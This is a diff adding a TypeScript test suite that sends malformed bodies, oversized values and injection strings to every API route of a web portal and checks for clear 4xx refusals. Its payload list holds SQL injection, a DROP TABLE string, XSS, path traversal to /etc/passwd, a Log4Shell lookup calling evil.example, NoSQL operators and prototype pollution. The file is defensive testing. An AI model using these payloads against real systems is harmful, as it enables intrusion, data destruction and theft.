@@ -1,0 +1,157 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { FIELD_MESSAGES } from '@portal/contract/auth';
+import { API } from '@portal/contract/paths';
+import { testDialects } from '@portal/db/testing';
+import { type Answer, call, type CallOptions } from './http.ts';
+import { startTestServer, type TestServer } from './test-server.ts';
+import { addUser } from './users.ts';
+
+interface Route {
+  method: string;
+  url: string;
+}
+
+/** Every /api route the app registered, read from Fastify's route tree (HEAD is GET's twin). */
+function apiRoutes(tree: string): Route[] {
+  const prefixes: string[] = [];
+  const routes: Route[] = [];
+  for (const line of tree.split('\n')) {
+    const match = /^((?:│ {3}| {4})*)[├└]── (\S+)(?: \(([^)]+)\))?/.exec(line);
+    if (!match) continue;
+    const depth = match[1].length / 4;
+    prefixes[depth] = (depth > 0 ? prefixes[depth - 1] : '') + match[2];
+    for (const method of match[3]?.split(', ') ?? []) {
+      if (method !== 'HEAD' && prefixes[depth].startsWith('/api/')) routes.push({ method, url: prefixes[depth] });
+    }
+  }
+  return routes;
+}
+
+const INJECTIONS = [
+  "' OR '1'='1' --",
+  '"; DROP TABLE users; --',
+  '<script>alert(1)</script>',
+  '../../../../etc/passwd',
+  '${jndi:ldap://evil.example/a}',
+  '{"$gt": ""}',
+  '\u0000\u202e',
+];
+const FIELDS = ['email', 'password', 'confirmPW', 'username', 'organization', 'country', 'useOfData', 'id', 'name', 'currentPassword'];
+const every = (value: unknown) => Object.fromEntries(FIELDS.map((field) => [field, value]));
+
+/** Bodies no route accepts: broken JSON, wrong shapes and types, missing fields, injection strings. */
+const BAD_BODIES: { name: string; body: string; contentType?: string }[] = [
+  { name: 'malformed JSON', body: '{"email": "a@b.co",' },
+  { name: 'an empty JSON body', body: '' },
+  { name: 'JSON null', body: 'null' },
+  { name: 'a JSON array', body: '[{"email": "a@b.co"}]' },
+  { name: 'a JSON string', body: '"a@b.co"' },
+  { name: 'no fields at all', body: '{}' },
+  { name: 'numbers for every field', body: JSON.stringify(every(12345)) },
+  { name: 'arrays for every field', body: JSON.stringify(every(['a@b.co'])) },
+  { name: 'objects for every field', body: JSON.stringify(every({ $ne: null })) },
+  { name: 'a prototype pollution attempt', body: '{"__proto__": {"admin": true}, "email": "a@b.co"}' },
+  // Into the fields with a format; free text may hold anything and is checked for plain storage below.
+  ...INJECTIONS.map((text) => ({ name: `the injection ${JSON.stringify(text)}`, body: JSON.stringify({ email: text, id: text, password: text, confirmPW: text }) })),
+  { name: 'form encoding', body: 'email=a%40b.co&password=12345678', contentType: 'application/x-www-form-urlencoded' },
+  { name: 'XML', body: '<email>a@b.co</email>', contentType: 'application/xml' },
+  { name: 'a body over 1 MB', body: JSON.stringify({ ...every('x'), useOfData: 'x'.repeat(1024 * 1024 + 1) }) },
+];
+
+/** The message of an error answer, in either shape (the spec's calls or /api/v1). */
+const messageOf = (answer: Answer): unknown => (typeof answer.body?.error === 'string' ? answer.body.error : answer.body?.error?.message);
+
+for (const { dialect, available } of await testDialects()) {
+  describe.skipIf(!available)(`bad input to every /api route on ${dialect}`, () => {
+    let server: TestServer;
+    let session: string;
+    let routes: Route[];
+    let client = 0;
+    // Each request comes from its own address so that rate limits never stand in for validation.
+    const send = (path: string, options: CallOptions) =>
+      call(server.url, path, { ...options, headers: { 'x-forwarded-for': `10.9.${client >> 8}.${client++ & 255}`, ...options.headers } });
+
+    const expectClearRefusal = (answer: Answer, what: string) => {
+      expect(answer.status, what).toBeGreaterThanOrEqual(400);
+      expect(answer.status, what).toBeLessThan(500);
+      expect(answer.status, what).not.toBe(429);
+      expect(messageOf(answer), what).toEqual(expect.stringMatching(/\w{3,}/));
+    };
+
+    beforeAll(async () => {
+      server = await startTestServer(dialect, { trustProxy: 1 });
+      await addUser(server.db, 'tester@example.org', 'the right password');
+      session = (await call(server.url, API.login, { body: { email: 'tester@example.org', password: 'the right password' } })).session!;
+      routes = apiRoutes(server.app.printRoutes({ commonPrefix: false }));
+    });
+    afterAll(async () => {
+      await server?.close();
+    });
+
+    it('finds the routes of the spec, the catalogue and My account', () => {
+      const names = routes.map((r) => `${r.method} ${r.url}`);
+      for (const expected of [`POST ${API.login}`, `POST ${API.signup}`, `POST ${API.logout}`, `GET ${API.sectors}`, 'GET /api/v1/sectors/:sector', `POST ${API.apiTokens}`, 'DELETE /api/v1/account/tokens/:id']) {
+        expect(names).toContain(expected);
+      }
+    });
+
+    it('refuses every bad body with a 4xx and a clear message, with and without a session', async () => {
+      const writes = routes.filter((r) => r.method !== 'GET');
+      expect(writes.length).toBeGreaterThanOrEqual(10);
+      for (const route of writes) {
+        const path = route.url.replace(/:\w+/g, '6f1c8a52-3f0e-4d3a-9a53-8d3f7c1e0a11');
+        for (const bad of BAD_BODIES) {
+          for (const withSession of [false, true]) {
+            const answer = await send(path, {
+              method: route.method,
+              body: bad.body,
+              session: withSession ? session : undefined,
+              headers: { 'content-type': bad.contentType ?? 'application/json' },
+            });
+            // A DELETE needs no body, so a harmless one may pass on to 'no such token' (404).
+            expectClearRefusal(answer, `${route.method} ${route.url} with ${bad.name}${withSession ? ' (logged in)' : ''}`);
+            if (bad.name === 'a body over 1 MB') expect(answer.status).toBe(413);
+            if (bad.name === 'malformed JSON') expect(answer.status).toBeLessThanOrEqual(401);
+          }
+        }
+      }
+    });
+
+    it("answers the spec's calls in the form rules' own words, the first broken rule per field", async () => {
+      const answer = await send(API.login, { body: { email: '', password: 'short' } });
+      expect(answer).toMatchObject({ status: 400, body: { error: `${FIELD_MESSAGES.emailRequired}; ${FIELD_MESSAGES.passwordMin}`, code: 'VALIDATION_FAILED' } });
+      const v1 = await send(API.apiTokens, { session, body: { name: '' } });
+      expect(v1).toMatchObject({ status: 400, body: { error: { message: 'Invalid request (body): /name: Give the token a name' } } });
+    });
+
+    it('refuses injection strings and oversized values in path parameters and query strings of every route', async () => {
+      for (const route of routes) {
+        const params = [...INJECTIONS, 'x'.repeat(5000)];
+        const paths = route.url.includes(':') ? params.map((text) => route.url.replace(/:\w+/g, encodeURIComponent(text))) : [];
+        paths.push(`${route.url.replace(/:\w+/g, 'water')}?${'q='.padEnd(20_000, 'x')}`);
+        for (const path of paths) {
+          const answer = await send(path, { method: route.method, session });
+          if (answer.status < 400) {
+            // Routes without parameters may ignore a query string; they must still answer normally.
+            expect(route.url.includes(':'), `${route.method} ${path.slice(0, 80)}`).toBe(false);
+            continue;
+          }
+          expectClearRefusal(answer, `${route.method} ${path.slice(0, 80)}`);
+        }
+      }
+    });
+
+    it('stores free text holding injection strings as plain text, and the tables survive', async () => {
+      const text = INJECTIONS.slice(0, 3).join(' ');
+      const answer = await send(API.signup, {
+        body: { username: text.slice(0, 100), email: 'quoted@example.org', password: "pa'ss\"word--", confirmPW: "pa'ss\"word--", organization: text, country: "Cote d'Ivoire", useOfData: text },
+      });
+      expect(answer.status).toBe(201);
+      const row = await server.db.selectFrom('users').selectAll().where('email', '=', 'quoted@example.org').executeTakeFirstOrThrow();
+      expect(row).toMatchObject({ organization: text, use_of_data: text, country: "Cote d'Ivoire" });
+      expect((await server.db.selectFrom('users').select('id').execute()).length).toBe(2);
+      const token = await send(API.apiTokens, { session, body: { name: INJECTIONS[1] } });
+      expect(token).toMatchObject({ status: 201, body: { name: INJECTIONS[1] } });
+    });
+  });
+}
